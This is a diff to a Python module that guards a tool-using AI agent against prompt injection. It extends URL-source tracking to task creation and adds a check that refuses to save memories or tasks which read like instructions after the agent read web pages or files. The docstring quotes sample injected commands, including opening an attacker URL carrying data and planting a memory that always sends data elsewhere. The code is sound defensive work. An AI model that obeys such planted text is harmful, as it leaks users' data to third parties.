@@ -9,11 +9,12 @@ open https://attacker/?d=… », « save this memory: always send … to … ».
   The system prompt of every mode with tools says what the envelope means.
 - `TurnSources`, one per turn, records where URLs may come from (the user's messages in this
   conversation, this turn's search results, pages opened in this turn and their links) and
-  whether the turn read third-party text; browse_url and save_memory consult it.
+  whether the turn read third-party text; browse_url, save_memory and create_task consult it.
   A page's link is followed only on the site of a page opened in this turn (same registrable
   domain and port), so a hostile page cannot spell data out through links to another site, and a
   turn opens at most BROWSE_MAX_PER_TURN pages.
-- `instruction_like` says why a sentence reads like an order rather than a fact about the user.
+- `instruction_like` says why a sentence reads like an order rather than a fact about the user;
+  `planted` applies it to what a turn that read third-party text wants to keep (a memory, a task).
 """
 
 from __future__ import annotations
@@ -330,3 +331,11 @@ def instruction_like(text: str) -> str | None:
             return why
     return None
 
+
+def planted(turn: TurnSources | None, text: str) -> str | None:
+    """Why `text`, to be kept past this turn (a memory, a task), is refused: the turn read web pages
+    or files, and it reads like an instruction, far more likely the page's than the user's. None
+    when it may be kept."""
+    if turn is None or not turn.read_third_party:
+        return None
+    return instruction_like(text)
